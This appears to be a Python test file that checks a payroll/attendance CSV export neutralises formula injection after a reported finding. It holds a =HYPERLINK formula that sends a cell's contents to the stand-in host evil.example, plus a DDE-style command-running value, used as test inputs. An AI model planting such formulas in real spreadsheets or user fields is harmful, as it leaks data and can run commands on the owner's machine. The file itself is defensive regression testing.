"""Issue 44, finding 8: formula injection in the payroll CSV (an agent named herself
`=HYPERLINK(...)` and the owner's spreadsheet ran it). Every CSV export goes through one writer
(core/csv_export.py) that makes cells starting with =, +, -, @, tab or CR inert."""

import csv
import io
import re
from pathlib import Path

import appliance
from appliance.core.csv_export import csv_text, inert
from tests import factories
from tests.browser_forms import sign_in

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Payroll")'


def _rows(answer) -> list[dict]:
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"))))


def test_an_agent_named_as_a_formula_is_plain_text_in_the_payroll_csv(client, api, owner):
    org = owner["org"]["id"]
    token = factories.add_member(api, org, "agent", "eva@example.com")
    assert api.patch("/users/me", {"name": HYPERLINK}, token=token).status_code == 200
    sign_in(client, email="owner@example.com")
    rows = _rows(client.get(f"/console/{org}/attendance/report.csv"))
    [eva] = [row for row in rows if row["email"] == "eva@example.com"]
    assert eva["agent"] == "'" + HYPERLINK  # text to a spreadsheet, never a formula
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values()
               if not re.fullmatch(r"[+-]?\d+(\.\d+)?", value))


def test_the_writer_makes_every_formula_start_inert_and_keeps_numbers():
    for dangerous in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+"):
        assert inert(dangerous) == "'" + dangerous
    assert [inert(v) for v in (-3, 7.5, "+573001234567", "-3", "7.50", None, "Ana")] == \
        [-3, 7.5, "+573001234567", "-3", "7.50", "", "Ana"]
    written = list(csv.reader(io.StringIO(csv_text(["name"], [["=1+1"], ["@x"]]).lstrip("\ufeff"))))
    assert written == [["name"], ["'=1+1"], ["'@x"]]


def test_every_csv_export_uses_the_one_writer():
    """No module writes CSV but core/csv_export.py (a new export written with csv.writer directly
    would skip the rule)."""
    package = Path(appliance.__file__).parent
    writers = [str(path.relative_to(package)) for path in package.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert writers == ["core/csv_export.py"]
